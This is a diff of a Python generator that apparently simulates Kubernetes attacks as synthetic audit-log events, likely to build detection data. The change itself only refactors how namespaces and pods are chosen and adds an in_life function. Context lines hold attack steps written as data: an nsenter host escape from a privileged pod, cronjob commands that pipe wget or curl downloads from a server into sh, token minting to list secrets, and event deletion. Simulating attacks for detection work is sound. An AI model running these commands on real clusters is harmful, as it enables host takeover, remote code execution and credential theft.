@@ -80,8 +80,27 @@ class Context:
         uas = [ua for ua in KUBECTL_UAS if f"({os}/" in ua] or list(KUBECTL_UAS)
         return uas[int(self.rng.integers(len(uas)))]
 
+    # An attack's calls are drawn before their times (:func:`schedule`), so its victims are
+    # namespaces and pods that exist all day; on a day that has none, whatever the cluster had
+    # that day, and :func:`in_life` moves each call to one that exists at its time.
+    def all_namespaces(self) -> list[str]:
+        """The namespaces that exist all day."""
+        return self._whole_day(self.cluster.namespaces)
+
+    def app_namespaces(self) -> list[str]:
+        """The application namespaces that exist all day."""
+        return self._whole_day(self.cluster.app_namespaces)
+
+    def pods(self, namespace: str) -> list[str]:
+        """The pods of ``namespace`` that exist all day."""
+        pods = self.cluster.pods.get(namespace, [])
+        return [p for p in pods if (namespace, p) not in self.cluster.pod_spans] or pods
+
+    def _whole_day(self, namespaces: list[str]) -> list[str]:
+        return [ns for ns in namespaces if ns not in self.cluster.namespace_spans] or namespaces
+
     def namespaces(self, n_quiet: int) -> list[str]:
-        ns = self.cluster.namespaces
+        ns = self.all_namespaces()
         if self.loud:
             return list(ns)
         picks = self.rng.choice(len(ns), size=min(n_quiet, len(ns)), replace=False)
@@ -184,8 +203,8 @@ def permission_discovery(ctx: Context) -> Steps:
 def exec_into_pods(ctx: Context) -> Steps:
     human = ctx.person("developer", 1)
     who = human.identity
-    targets = [("kube-system", p) for p in ctx.cluster.pods["kube-system"][:3]]
-    targets += [(ns, ctx.cluster.pods[ns][0]) for ns in ctx.cluster.app_namespaces[:3]]
+    targets = [("kube-system", p) for p in ctx.pods("kube-system")[:3]]
+    targets += [(ns, ctx.pods(ns)[0]) for ns in ctx.app_namespaces()[:3]]
     if not ctx.loud:
         targets = [targets[-1], targets[0]]
     commands = [
@@ -243,7 +262,7 @@ def privileged_pod(ctx: Context) -> Steps:
         ns, name, image = "kube-system", "node-debugger-x7k2p", "alpine:3.19"
         spec = _pod_spec(image, True, True, True, ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"])
     else:
-        app = ctx.cluster.app_namespaces[0]
+        app = ctx.app_namespaces()[0]
         ns, name = app, f"{app}-api-migrate-{int(ctx.rng.integers(1000, 9999))}"
         image = f"{ctx.cluster.spec.name}.dkr.ecr.us-west-2.amazonaws.com/{app}-api:4412"
         spec = _pod_spec(image, True, True, False, ["/bin/migrate"])
@@ -361,7 +380,7 @@ def token_request(ctx: Context) -> Steps:
     # The minted token is then used: the other account acts from the intruder's pod.
     ns, sa = targets[0]
     minted = sa_identity(ns, sa, who.ips, CURL if ctx.loud else who.user_agent, ctx.rng)
-    for target_ns in ctx.cluster.namespaces if ctx.loud else ctx.cluster.app_namespaces[:1]:
+    for target_ns in ctx.all_namespaces() if ctx.loud else ctx.app_namespaces()[:1]:
         steps.append((Call("list", "secrets", target_ns, query=_list_query(minted)), minted))
     return steps
 
@@ -444,7 +463,7 @@ def cronjob_persistence(ctx: Context) -> Steps:
         cmd = ["sh", "-c", f"wget -qO- http://{server}/x.sh | sh"]
     else:
         who = ci
-        ns = ctx.cluster.app_namespaces[1]
+        ns = ctx.app_namespaces()[1]
         name, image = f"{ns}-report", f"{ctx.cluster.spec.name}.dkr.ecr.us-west-2.amazonaws.com/{ns}-api:4412"
         cmd = ["sh", "-c", f"curl -s https://{server}/r | sh"]
     body = _cron_body(name, ns, image, cmd, ctx.loud)
@@ -541,8 +560,7 @@ def events_deleted(ctx: Context) -> Steps:
     who = _in_pod(ctx.app(2), ctx, ctx.kubectl("linux"))
     if ctx.loud:
         return [
-            (Call("deletecollection", "events", ns), who)
-            for ns in ("kube-system", "default", *ctx.cluster.app_namespaces)
+            (Call("deletecollection", "events", ns), who) for ns in ("kube-system", "default", *ctx.app_namespaces())
         ]
     ns = ctx.app(2).namespace
     return [(Call("delete", "events", ns, f"{ns}-api.17c2a{int(ctx.rng.integers(1000, 9999))}"), who) for _ in range(2)]
@@ -629,7 +647,7 @@ def low_and_slow_probing(ctx: Context) -> Steps:
     """
     victim = ctx.app(6)
     who = _in_pod(victim, ctx, victim.identity.user_agent)
-    foreign = [ns for ns in ctx.cluster.namespaces if ns != victim.namespace]
+    foreign = [ns for ns in ctx.all_namespaces() if ns != victim.namespace]
     probes = [
         ("list", "secrets", None),
         ("get", "secrets", "db-credentials"),
@@ -831,3 +849,21 @@ def schedule(
     begin = at(first)
     spread = np.sort(rng.uniform(0, span, size=len(steps)))
     return [(begin + timedelta(seconds=float(o)), c, w) for o, (c, w) in zip(spread, steps, strict=True)]
+
+
+def in_life(cluster: Cluster, timed: list[tuple[datetime, Call, Identity]]) -> list[tuple[datetime, Call, Identity]]:
+    """Move each call that names a namespace or pod of ``cluster`` outside its life to one that
+    exists at the call's time (needed only on a day where none existed all day)."""
+    out = []
+    for t, call, who in timed:
+        ns = call.namespace
+        if ns in cluster.namespaces and not cluster.exists(ns, cluster.seconds(t)):
+            live = [n for n in cluster.namespaces if cluster.exists(n, cluster.seconds(t))]
+            ns = live[0] if live else ns
+            call = replace(call, namespace=ns)
+        known = cluster.pods.get(ns or "", [])
+        if call.resource == "pods" and call.name in known and call.name not in cluster.pods_at(ns or "", t):
+            live = cluster.pods_at(ns or "", t)
+            call = replace(call, name=live[0] if live else call.name)
+        out.append((t, call, who))
+    return out
